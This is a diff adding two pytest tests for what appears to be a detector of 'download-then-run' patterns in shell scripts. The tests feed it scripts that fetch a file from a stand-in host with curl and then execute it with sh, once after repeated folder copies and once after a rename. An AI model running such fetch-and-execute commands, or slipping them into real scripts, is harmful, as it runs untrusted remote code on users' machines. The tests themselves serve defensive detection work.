@@ -1086,3 +1086,19 @@ def test_downloaded_content_that_a_script_moves_changes_loads_or_installs_is_men
 )
 def test_downloaded_data_beside_a_script_of_the_model_is_not_mentioned(text: str) -> None:
     assert list(collect_script_mentions(text)) == []
+
+
+def test_folders_that_a_script_copies_into_each_other_reach_a_bound_and_the_later_run_is_still_mentioned():
+    mentions = []
+    script = "curl -o a/x http://e\n" + "cp -r a b\ncp -r b a\n" * 12 + "sh a/x\n"
+    with pytest.raises(LimitReachedError, match="was not followed"):
+        mentions.extend(collect_script_mentions(script))
+    assert ("download-then-run", "http://e") in {(mention.use, mention.name) for mention in mentions}
+
+
+def test_renamed_name_that_grows_beyond_the_length_of_a_file_name_is_not_followed_and_a_shorter_one_is():
+    long_name = "a" * 1000
+    script = f"curl -o {long_name} http://e\nrename a {{}} {long_name}\nsh {{}}\n"
+    uses = [[mention.use for mention in collect_script_mentions(script.format(new, new * 1000))] for new in ("b", "bb")]
+    assert uses[0] == ["download-then-run"]
+    assert "download-then-run" not in uses[1]
